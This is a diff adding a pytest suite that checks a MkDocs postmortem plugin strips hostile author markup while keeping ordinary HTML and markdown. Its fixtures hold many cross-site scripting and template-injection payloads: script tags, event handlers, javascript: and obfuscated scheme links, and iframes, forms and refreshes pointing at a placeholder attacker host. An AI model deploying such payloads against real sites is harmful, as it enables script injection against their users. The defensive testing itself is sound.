@@ -1,0 +1,230 @@
+"""What a hostile author writes runs nowhere; what an honest one writes survives."""
+
+from __future__ import annotations
+
+import json
+import re
+
+import pytest
+from tests.site.project import EXTENSIONS, build, postmortem, write
+from tests.site.web import Page, Site
+
+TITLE = "a | b <script>pwn()</script> </title><script>pwn()</script> ](javascript:pwn) {{ 7*7 }}"
+LESSON = "c | d <img src=x onerror=pwn()> ](javascript:pwn) {{ 6*7 }} <script>pwn()</script>"
+FIELD = "<script>pwn()</script> [x](javascript:pwn) | </td> \"' onclick=pwn() {{ 7*7 }}"
+BODY = (
+    """
+## Summary
+
+Words <script>pwn()</script> and <SCRIPT SRC="https://evil.example/pwn.js"></SCRIPT> of a summary.
+
+## Impact <svg onload=pwn()><img src=x onerror=pwn()>
+
+<p onclick="pwn()">paragraph that stays</p>
+<a href="javascript:pwn()">script link</a>
+<a href="JaVa&#115;cript:pwn()">odd script link</a>
+<a href="data:text/html,<script>pwn()</script>">data link</a>
+[markdown link](javascript:pwn()) and [another](vbscript:pwn) and <javascript:pwn()>
+
+<iframe src="https://evil.example/pwn"></iframe>
+<object data="https://evil.example/pwn"></object><embed src="https://evil.example/pwn">
+<style>body { background: url(https://evil.example/pwn) }</style>
+<link rel="stylesheet" href="https://evil.example/pwn.css">
+<form action="https://evil.example/pwn"><input type="password" name="pwn" autofocus onfocus="pwn()">
+<button formaction="javascript:pwn()">press</button></form>
+<base href="https://evil.example/pwn/">
+<meta http-equiv="refresh" content="0; url=https://evil.example/pwn">
+<svg onload="pwn()"><a xlink:href="javascript:pwn()"><text>svg</text></a><script>pwn()</script></svg>
+<math><mtext><script>pwn()</script></mtext></math>
+<div style="position:fixed;inset:0;background:url(https://evil.example/pwn)">overlay</div>
+<textarea><script>pwn()</script></textarea><noscript><p title="</noscript><script>pwn()</script>">
+
+attributes of a list{: onclick="pwn()" style="position:fixed" }
+
+# Heading {: #x onclick="pwn()" }
+
+![image](x.png){: onerror="pwn()" }
+
+<!-- a comment --><details open ontoggle="pwn()"><summary>sum</summary></details>
+
+## What went wrong
+
+- [rollback] """
+    + LESSON
+    + "\n\n## Where we got lucky\n\n- [timing] "
+    + LESSON
+    + "\n"
+)
+
+ACTING = ("iframe", "object", "embed", "style", "link", "base", "meta", "math")
+ACTING += ("form", "button", "textarea")
+
+HONEST = """
+## Summary
+
+<details><summary>More</summary><p>inside</p></details>
+
+Press <kbd>Ctrl</kbd>, 10<sup>3</sup>, H<sub>2</sub>O, <mark>marked</mark>, <abbr title="A">a</abbr>.
+
+- [x] done
+- [ ] open
+
+```python
+def f():
+    return "`<b>`"
+```
+
+!!! warning "Mind"
+    An admonition.
+
+??? note "Folded"
+    Details of a block.
+
+| Left | Right |
+|:--|--:|
+| a | b |
+
+A foot note.[^1]
+
+[^1]: Its text.
+
+![diagram](diagram.png){: width="40" }
+
+<table><tr><td colspan="2" align="right">cell</td></tr></table>
+"""
+
+
+@pytest.fixture(scope="module", params=["material", "mkdocs"])
+def site(request, tmp_path_factory) -> Site:
+    files = {
+        "postmortems/services.yml": json.dumps(
+            [{"id": "shop", "name": f"Shop {FIELD}"}, {"id": "mail", "name": "Mail"}]
+        ),
+        "postmortems/2024/2024-05-02-hostile.md": postmortem(
+            BODY,
+            title=TITLE,
+            owner=FIELD,
+            impact={"summary": FIELD, "customers": FIELD, "requests": FIELD, "data_loss": FIELD},
+            sources=[{"title": FIELD, "url": 'https://example.org/"><script>pwn()</script>'}],
+        ),
+        "postmortems/2024/2024-05-02-honest/index.md": postmortem(
+            HONEST, title="Honest", services=["mail"]
+        ),
+        "postmortems/2024/2024-05-02-honest/diagram.png": b"\x89PNG",
+        "postmortems/2024/2024-05-03-draft.md": postmortem(
+            title=TITLE, status="draft", started_at="2024-05-03T10:00:00Z", resolved_at=None
+        ),
+        "docs/index.md": "# Home\n\n{{ postmortem_newest() }}\n\n{{ postmortem_table() }}\n\n"
+        "{{ postmortem_trend() }}\n\n{{ postmortem_luck() }}\n",
+    }
+    root = write(
+        tmp_path_factory.mktemp("hostile"),
+        files,
+        theme={"name": request.param, "font": False, "highlightjs": False},
+        plugins=["search", "postmortems", "macros"],
+        markdown_extensions=EXTENSIONS,
+    )
+    return Site(build(root, strict=False))
+
+
+@pytest.fixture
+def hostile(site) -> Page:
+    return site.page("postmortems/2024-05-02-hostile")
+
+
+@pytest.fixture
+def honest(site) -> Page:
+    return site.page("postmortems/2024-05-02-honest")
+
+
+def test_no_script_comes_from_an_author(site, honest):
+    """Every page has exactly the scripts that the theme puts on every page."""
+    expected = len(honest.root.all("script"))
+    for page in site.pages.values():
+        scripts = page.root.all("script")
+        assert not [one for one in scripts if "pwn" in one.text + one.attributes.get("src", "")]
+        if page.path not in {"404.html", "search.html"}:
+            assert len(scripts) == expected, page.path
+
+
+def test_nothing_on_any_page_can_run_load_or_send(site):
+    """No handler, odd scheme, frame, form or foreign address of an author is left, chrome included."""
+    for page in site.pages.values():
+        for one in page.root.walk():
+            for name, value in one.attributes.items():
+                assert not name.startswith("on"), (page.path, one.tag, name)
+                if name in {"href", "src", "action", "formaction", "data", "xlink:href"}:
+                    scheme = re.sub(r"[\s\x00]", "", value).partition(":")[0].lower()
+                    assert scheme not in {"javascript", "vbscript", "data"}, (page.path, value)
+                    assert "evil.example" not in value, (page.path, value)
+        if page.path != "404.html":  # the theme's own, without a place for content
+            assert not page.main.all(*ACTING), page.path
+
+
+def test_the_title_is_text_wherever_it_is_printed(site, hostile):
+    """Title element, heading, every list, the navigation and macros show the very words."""
+    assert hostile.root.all("title")[0].text.startswith(TITLE)
+    assert hostile.main.all("h1")[0].text == TITLE
+    shown = 0
+    for page in site.pages.values():
+        for link in page.links:
+            target = site.resolve(page, link.attributes["href"]) or ""
+            is_list = "hostile" in target and "#" not in link.attributes["href"]
+            if is_list and link.text and "md-" not in link.attributes.get("class", ""):
+                assert link.text in {TITLE, "Edit this page"}, page.path
+                shown += 1
+    assert shown >= 8
+
+
+def test_a_lesson_is_text_wherever_it_is_quoted(site):
+    """Theme, luck and overview pages quote the words of a lesson, markup taken off or shown."""
+    for address in ("trends/themes/rollback", "trends/luck", "trends", ""):
+        text = site.page(address).main.text
+        assert "c | d" in text, address
+        assert "{{ 6*7 }}" in text, address
+        assert "42" not in text, address
+
+
+def test_fields_are_text_on_the_page(hostile):
+    """Owner, impact and sources print what was written."""
+    details = hostile.main.all(of="pm-details")[0]
+
+    assert details.text.count(FIELD) == 5  # service, customers, requests, data loss, owner
+    assert "49" not in hostile.main.text
+
+
+def test_the_body_keeps_its_words(hostile):
+    """Cleaning takes away what acts, not what is said."""
+    for words in ("paragraph that stays", "script link", "markdown link", "overlay", "sum"):
+        assert words in hostile.main.text
+
+
+def test_the_search_index_holds_no_markup_of_an_author(site):
+    """Material writes the index out as HTML, so no tag is in it; the plain theme's is plain text."""
+    if "material" not in site.page("").html:
+        return
+    for entry in site.search_index:
+        for value in (entry["title"], entry["text"]):
+            assert not re.search(r"<(script|img|svg|iframe|a)\b", value), entry["location"]
+
+
+def test_ordinary_html_and_markdown_survive(honest):
+    """What authors use every day comes out as they wrote it."""
+    main = honest.main
+    for tag in ("details", "summary", "kbd", "sup", "sub", "mark", "abbr", "table", "img", "input"):
+        assert main.all(tag), tag
+    assert main.all(of="highlight")
+    assert main.all("span", of="k")
+    assert main.all(of="admonition")
+    assert main.all(of="footnote")
+    assert main.all("details", of="note")
+    assert [one.attributes["disabled"] for one in main.all("input")] == ["", ""]
+    assert ["checked" in one.attributes for one in main.all("input")] == [True, False]
+    assert main.all("td")[-1].attributes == {"colspan": "2", "align": "right"}
+    assert "text-align: right;" in [one.attributes.get("style") for one in main.all("th")]
+    assert main.all("img")[-1].attributes["width"] == "40"
+
+
+def test_footnotes_link_both_ways(site, honest):
+    """A footnote leads to its text and back."""
+    assert not [one for one in site.broken_links() if one.startswith(honest.path)]
